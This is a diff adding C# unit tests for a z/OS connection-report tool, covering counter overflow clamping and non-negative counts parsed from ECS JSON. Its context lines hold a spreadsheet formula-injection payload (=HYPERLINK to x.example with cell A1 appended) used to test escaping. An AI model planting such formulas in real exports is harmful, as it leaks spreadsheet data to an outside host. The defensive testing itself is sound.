@@ -83,4 +83,66 @@ public sealed class ReportCraftedRecordTests(ITestOutputHelper output) : IDispos
         Assert.Contains("<td>=1+2</td>", page, StringComparison.Ordinal);
         Assert.Contains("<td>=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;open&quot;)</td>", page, StringComparison.Ordinal);
     }
+
+    /// <summary>
+    /// Byte counters are 8-byte fields; a damaged or hand-made record can hold any value. Summed over a row they
+    /// wrapped round to a negative total when one client had them, and the report stopped with an OverflowException
+    /// and a stack trace (exit 134, servers.csv cut off) when several clients had them. A total that does not fit is
+    /// the largest number instead, and a counter past 2^63 counts as that, not as 0.
+    /// </summary>
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task Counters_too_big_to_add_up_give_the_largest_total_rather_than_a_negative_one_or_a_crash(bool severalClients)
+    {
+        var connection = SmfDumpGenerator.GenerateRecords(7, 400, includeForeignRecords: false).Select(r => r.Connection).OfType<ZertConnectionRecord>()
+            .First(c => c.Common.EventType == 4 && (c.Common.Flags & 0x10) != 0 && c.Common.SecurityProtocols == 0);
+        var records = new List<byte[]>();
+        for (var i = 0u; i < 3; i++)
+        {
+            connection.Common.ConnectionId = 100 + i;
+            connection.Common.InBytes = (1UL << 62) + i;
+            connection.Common.OutBytes = ulong.MaxValue - i;
+            if (severalClients) connection.Common.RemoteIp = System.Net.IPAddress.Parse($"10.99.0.{i + 1}");
+            records.Add(ZertRecordWriter.ToArray(connection));
+        }
+        var dump = WriteDump("huge.smf", records);
+
+        var result = await Report(dump, "--out", "r");
+        Assert.True(result.ExitCode == 0, result.ToString());
+        Assert.DoesNotContain("Exception", result.Stderr, StringComparison.Ordinal);
+        var max = long.MaxValue.ToString(CultureInfo.InvariantCulture);
+        var server = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "servers.csv")));
+        Assert.Equal(3, server.Long("connections"));
+        Assert.Equal(max, server["bytes_in"]);
+        Assert.Equal(max, server["bytes_out"]);
+        Assert.Equal(max, server["bytes_none"]);
+        var clients = ReportFiles.ReadCsv(_work.Combine("r", "clients.csv"));
+        Assert.Equal(severalClients ? 3 : 1, clients.Count);
+        Assert.All(clients, c => Assert.True(c.Long("bytes_in") > 0 && c.Long("bytes_out") > 0, string.Join(",", c.Values)));
+        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv")), s => s["client_ip"] == clients[0]["client_ip"]);
+        Assert.True(session.Long("bytes_in") > 0, string.Join(",", session.Values));
+    }
+
+    /// <summary>
+    /// Counts read from ECS are at least 0: a summary delta past 2^63 - 1 is an end below its start (the normalizer
+    /// subtracts unsigned fields), a negative one can only be hand-made; a life-to-date counter past 2^63 - 1 is the
+    /// largest number.
+    /// </summary>
+    [Fact]
+    public void Counts_read_from_ecs_are_never_negative()
+    {
+        using var summary = System.Text.Json.JsonDocument.Parse("""
+            {"@timestamp":"2026-03-02T08:00:00.000Z","event":{"dataset":"zos.zert_summary"},"zos":{"zert":{"event_type":1,
+             "summary":{"connections":{"delta":-5},"bytes_in":{"delta":18446744073709551615},"bytes_out":{"delta":12}}}}}
+            """);
+        var s = ReportRecord.FromEcs(summary.RootElement)!;
+        Assert.Equal((0L, 0L, 12L), (s.SummaryConnections, s.SummaryBytesIn, s.SummaryBytesOut));
+        using var connection = System.Text.Json.JsonDocument.Parse("""
+            {"@timestamp":"2026-03-02T08:00:00.000Z","event":{"dataset":"zos.zert_connection"},"zos":{"zert":{"event_type":3,
+             "connection_id":7,"bytes_in":-7,"bytes_out":18446744073709551615}}}
+            """);
+        var c = ReportRecord.FromEcs(connection.RootElement)!;
+        Assert.Equal((0L, long.MaxValue), (c.LifeBytesIn, c.LifeBytesOut));
+    }
 }
